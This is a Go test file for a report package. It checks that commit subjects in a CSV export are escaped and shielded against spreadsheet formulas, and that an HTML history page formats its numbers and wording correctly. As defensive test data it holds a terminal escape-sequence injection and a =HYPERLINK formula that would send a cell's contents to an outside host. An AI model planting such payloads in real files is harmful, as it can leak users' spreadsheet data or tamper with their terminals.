package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestHistoryCSVSubjectOneLine: a commit's subject holding control
// characters (a terminal's escape sequences, a carriage return) and bytes
// that are not UTF-8 is written with Go's escapes, as the text report
// writes such a file name, not as it is to the terminal the CSV is
// printed on; a printable one, quotes and commas too, as it is.
func TestHistoryCSVSubjectOneLine(t *testing.T) {
	points := []HistoryPoint{
		{Commit: "a", Subject: "\x1b]0;PWNED\a\x1b[2Jfix\r\xff"},
		{Commit: "b", Subject: `say "hi", é`},
	}
	var buf bytes.Buffer
	if err := HistoryCSV(&buf, points); err != nil {
		t.Fatal(err)
	}
	for _, c := range buf.Bytes() {
		if c < 0x20 && c != '\n' || c == 0x7f {
			t.Fatalf("the CSV holds the control byte %#x:\n%q", c, buf.String())
		}
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`\x1b]0;PWNED\a\x1b[2Jfix\r\xff`, `say "hi", é`}
	for i, w := range want {
		if got := rows[i+1][9]; got != w {
			t.Errorf("subject %d: got %q, want %q", i, got, w)
		}
	}
}

// A subject that starts as a spreadsheet's formula is written as text, a
// ' before it, so that opening the CSV in a spreadsheet does not run a
// formula a commit message holds; other subjects are as they were.
func TestHistoryCSVNoFormula(t *testing.T) {
	subjects := []string{`=HYPERLINK("http://example.com/?"&A1,"fix")`, "+1 for the tests", "-flag renamed", "@bot merge", "fix =x", "'quoted"}
	var points []HistoryPoint
	for _, s := range subjects {
		points = append(points, HistoryPoint{Commit: "c", Subject: s})
	}
	var buf bytes.Buffer
	if err := HistoryCSV(&buf, points); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://example.com/?"&A1,"fix")`, "'+1 for the tests", "'-flag renamed", "'@bot merge", "fix =x", "'quoted"}
	for i, w := range want {
		if got := rows[i+1][9]; got != w {
			t.Errorf("subject %q: got %q, want %q", subjects[i], got, w)
		}
	}
}

// The history page says its figures as the report's page does, grouped
// by thousands, and counts its commits in the singular for one: it said
// "1 commits, oldest first: b9932ce5e7b4 … b9932ce5e7b4", "47916", and
// put 12,345 classes at the top of the plot as "1.234e+04".
func TestHistoryHTMLWords(t *testing.T) {
	p := HistoryPoint{Commit: "b9932ce5e7b4e8f0", Date: "2026-12-06", Lines: 47916, DuplicatedLines: 11350, DuplicatedPct: 23.69, Classes: 12345, NewClasses: 1090, Drifted: 7}
	page := func(points ...HistoryPoint) string {
		var buf bytes.Buffer
		if err := HistoryHTML(&buf, points); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}
	one := page(p)
	for _, want := range []string{
		"<p>1 commit: b9932ce5e7b4.</p>",
		"<td>47,916</td><td>11,350</td><td>23.69</td><td>12,345</td><td>1,090</td><td>7</td>",
		`fill="#2471a3">12,345</text>`,
	} {
		if !strings.Contains(one, want) {
			t.Errorf("one commit: the page lacks %q:\n%s", want, one)
		}
	}
	q := p
	q.Commit = "0123456789abcdef"
	if two, want := page(p, q), "<p>2 commits, oldest first: b9932ce5e7b4 … 0123456789ab.</p>"; !strings.Contains(two, want) {
		t.Errorf("two commits: the page lacks %q", want)
	}
}
